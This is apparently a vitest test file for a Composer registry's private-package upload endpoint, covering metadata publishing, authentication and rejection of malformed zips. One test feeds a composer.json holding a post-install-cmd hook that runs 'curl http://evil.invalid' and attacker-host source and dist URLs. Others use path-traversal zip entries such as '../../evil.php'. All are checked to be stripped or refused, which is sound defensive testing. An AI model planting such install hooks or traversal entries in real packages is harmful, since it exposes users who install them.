import { createHash, randomBytes } from 'node:crypto'
import { buildComposerPackage, writeZip } from '@larder/testkit'
import { afterEach, describe, expect, it } from 'vitest'
import { BASE, TEST_TOKEN, basicAuth, bytesOf, mirrorPath, startComposerAppHarness, type ComposerAppHarness } from './composer-app.harness.js'

let harness: ComposerAppHarness | undefined
afterEach(async () => {
  await harness?.close()
  harness = undefined
})

type P2 = { packages: Record<string, { version: string; version_normalized: string; dist: { url: string; shasum: string; reference: string } }[]> }

const zipOf = (composerJson: Record<string, unknown>, prefix = 'pkg/') =>
  writeZip([
    { name: `${prefix}composer.json`, data: JSON.stringify(composerJson) },
    { name: `${prefix}src/A.php`, data: '<?php\n' },
  ])

const upload = (h: ComposerAppHarness, body: Buffer, auth: string | null = basicAuth(TEST_TOKEN)) =>
  h.request('/composer/upload', { method: 'PUT', headers: { 'content-type': 'application/zip', ...(auth ? { authorization: auth } : {}) }, body })

async function errorOf(response: Response): Promise<{ status: number; code: string; error: string }> {
  const body = (await response.json()) as { code: string; error: string }
  return { status: response.status, ...body }
}

describe('private uploads', () => {
  it('makes an uploaded zip resolvable, with a dist on this Larder whose shasum is the zip sha1', async () => {
    harness = await startComposerAppHarness()
    const zip = zipOf({ name: 'team/tool', version: '1.2.0', require: { php: '>=8.1' }, repositories: [{ type: 'vcs', url: 'x' }] })
    const created = await upload(harness, zip)
    expect(created.status).toBe(201)
    const sha1 = createHash('sha1').update(zip).digest('hex')
    expect(await created.json()).toMatchObject({ name: 'team/tool', version_normalized: '1.2.0.0', reference: sha1, shasum: sha1 })
    const p2 = (await (await harness.request('/composer/p2/team/tool.json')).json()) as P2
    const [version] = p2.packages['team/tool']!
    expect(version).toMatchObject({
      version: '1.2.0',
      require: { php: '>=8.1' },
      dist: { url: `${BASE}/composer/dists/team/tool/1.2.0.0/${sha1}.zip`, shasum: sha1 },
    })
    expect(version).not.toHaveProperty('repositories')
    const dist = await harness.request(new URL(version!.dist.url).pathname)
    expect((await bytesOf(dist)).equals(zip)).toBe(true)
    const root = (await (await harness.request('/composer/packages.json')).json()) as Record<string, unknown>
    expect(root).not.toHaveProperty('available-packages')
    expect((await harness.request('/composer/p2/team/tool~dev.json')).status).toBe(200)
    // Only the upload asked the upstream (once) whether it has team/tool; no read went there.
    expect(harness.metadata.totalHits() - harness.metadata.hitCount('/packages.json')).toBe(1)
  })

  it('publishes only package-level fields of the uploaded composer.json', async () => {
    harness = await startComposerAppHarness()
    const kept = {
      description: 'A tool',
      type: 'library',
      license: 'MIT',
      autoload: { 'psr-4': { 'Team\\Tool\\': 'src/' } },
      extra: { 'branch-alias': { 'dev-main': '1.x-dev' } },
      bin: ['bin/tool'],
    }
    const dropped = {
      'notification-url': 'http://evil.invalid/notify',
      scripts: { 'post-install-cmd': 'curl http://evil.invalid' },
      config: { 'secure-http': false },
      source: { type: 'git', url: 'http://evil.invalid/repo.git', reference: 'abc' },
      dist: { type: 'zip', url: 'http://evil.invalid/x.zip' },
      'minimum-stability': 'dev',
      'made-up-key': 1,
    }
    expect((await upload(harness, zipOf({ name: 'team/tool', version: '1.0.0', ...kept, ...dropped }))).status).toBe(201)
    const text = await (await harness.request('/composer/p2/team/tool.json')).text()
    expect(text).not.toContain('evil.invalid')
    const [version] = (JSON.parse(text) as { packages: Record<string, Record<string, unknown>[]> }).packages['team/tool']!
    expect(version).toMatchObject(kept)
    expect(Object.keys(version!).filter((key) => key in dropped && key !== 'dist')).toEqual([])
    expect(version!.dist).toMatchObject({ type: 'zip', url: expect.stringContaining(`${BASE}/composer/dists/team/tool/`) })
  })

  it('refuses a zip with two entries of the same name', async () => {
    harness = await startComposerAppHarness()
    const twice = writeZip([
      { name: 'composer.json', data: '{"name":"team/tool","version":"1.0.0"}' },
      { name: 'composer.json', data: '{"name":"team/other","version":"1.0.0"}' },
    ])
    expect(await errorOf(await upload(harness, twice))).toMatchObject({ status: 400, error: expect.stringContaining('two entries named composer.json') })
    const dirAndFile = writeZip([
      { name: 'composer.json', data: '{"name":"team/tool","version":"1.0.0"}' },
      { name: 'src/', data: '' },
      { name: 'src', data: 'x' },
    ])
    expect((await upload(harness, dirAndFile)).status).toBe(400)
    expect((await harness.request('/composer/p2/team/tool.json')).status).toBe(404)
  })

  it('never takes a privately owned name from upstream, even what was mirrored before', async () => {
    harness = await startComposerAppHarness({ env: { LARDER_INDEX_TTL_SECONDS: '0' } })
    const mirrored = harness.publish('team/tool', '9.0.0')
    expect((await harness.request(mirrorPath(mirrored))).status).toBe(200)
    // Taking over a name the upstream has needs it listed as private.
    expect((await upload(harness, zipOf({ name: 'team/tool', version: '1.0.0' }))).status).toBe(409)
    const owner = await harness.reopen({ LARDER_COMPOSER_PRIVATE_NAMES: 'team/*' })
    expect((await upload(owner, zipOf({ name: 'team/tool', version: '1.0.0' }))).status).toBe(201)
    const p2 = (await (await owner.request('/composer/p2/team/tool.json')).json()) as P2
    expect(p2.packages['team/tool']!.map((v) => v.version)).toEqual(['1.0.0'])
    expect((await owner.request(mirrorPath(mirrored))).status).toBe(404)
  })

  it('merges versions newest first and refuses the same version twice', async () => {
    harness = await startComposerAppHarness()
    expect((await upload(harness, zipOf({ name: 'team/tool', version: '1.0.0' }))).status).toBe(201)
    expect((await upload(harness, zipOf({ name: 'team/tool', version: 'v1.10.0' }, ''))).status).toBe(201)
    expect((await upload(harness, zipOf({ name: 'team/tool', version: '1.2.0-beta1' }))).status).toBe(201)
    const p2 = (await (await harness.request('/composer/p2/team/tool.json')).json()) as P2
    expect(p2.packages['team/tool']!.map((v) => v.version)).toEqual(['v1.10.0', '1.2.0-beta1', '1.0.0'])
    expect(await errorOf(await upload(harness, zipOf({ name: 'team/tool', version: '1.0', description: 'again' })))).toMatchObject({
      status: 409,
      code: 'E_CONFLICT',
    })
  })

  it('refuses uploads without a publisher token', async () => {
    harness = await startComposerAppHarness()
    const zip = zipOf({ name: 'team/tool', version: '1.0.0' })
    expect((await upload(harness, zip, null)).status).toBe(401)
    expect((await upload(harness, zip, basicAuth('wrong-token'))).status).toBe(401)
    expect((await upload(harness, zip, 'Bearer npm-only-token-1')).status).toBe(403)
    expect((await harness.request('/composer/p2/team/tool.json')).status).toBe(404)
  })

  it('refuses bad zips with a clear 4xx', async () => {
    harness = await startComposerAppHarness({ env: { LARDER_MAX_UPLOAD_MB: '1' } })
    const noComposerJson = writeZip([{ name: 'pkg/src/A.php', data: '<?php\n' }])
    expect(await errorOf(await upload(harness, noComposerJson))).toMatchObject({ status: 400, error: expect.stringContaining('no composer.json') })
    const traversal = writeZip([
      { name: 'composer.json', data: '{"name":"team/tool","version":"1.0.0"}' },
      { name: '../../evil.php', data: 'x' },
    ])
    expect(await errorOf(await upload(harness, traversal))).toMatchObject({ status: 400, error: expect.stringContaining('unsafe') })
    const absolute = writeZip([
      { name: 'composer.json', data: '{"name":"team/tool","version":"1.0.0"}' },
      { name: '/etc/evil', data: 'x' },
    ])
    expect((await upload(harness, absolute)).status).toBe(400)
    const oversized = writeZip([
      { name: 'composer.json', data: '{"name":"team/tool","version":"1.0.0"}' },
      { name: 'big.bin', data: randomBytes(1_200_000), stored: true },
    ])
    expect(await errorOf(await upload(harness, oversized))).toMatchObject({ status: 413, code: 'E_TOO_LARGE' })
    expect(await errorOf(await upload(harness, Buffer.from('not a zip at all')))).toMatchObject({ status: 400, error: expect.stringContaining('not a zip') })
    expect(await errorOf(await upload(harness, zipOf({ name: 'team/tool' })))).toMatchObject({ status: 400, error: expect.stringContaining('no "version"') })
    expect(await errorOf(await upload(harness, zipOf({ name: 'Team Tool', version: '1.0.0' })))).toMatchObject({ status: 400, code: 'E_INVALID_NAME' })
    expect(await errorOf(await upload(harness, zipOf({ name: 'team/tool', version: 'dev-main' })))).toMatchObject({ status: 400 })
    const plain = await harness.request('/composer/upload', {
      method: 'PUT',
      headers: { 'content-type': 'text/plain', authorization: basicAuth(TEST_TOKEN) },
      body: 'x',
    })
    expect(plain.status).toBe(415)
    expect((await harness.request('/composer/p2/team/tool.json')).status).toBe(404)
  })

  it('accepts a code host style zipball with one top directory', async () => {
    harness = await startComposerAppHarness()
    const pkg = buildComposerPackage({ name: 'team/zipball', version: '2.0.0', extra: { version: '2.0.0' } })
    expect((await upload(harness, pkg.zip)).status).toBe(201)
  })
})
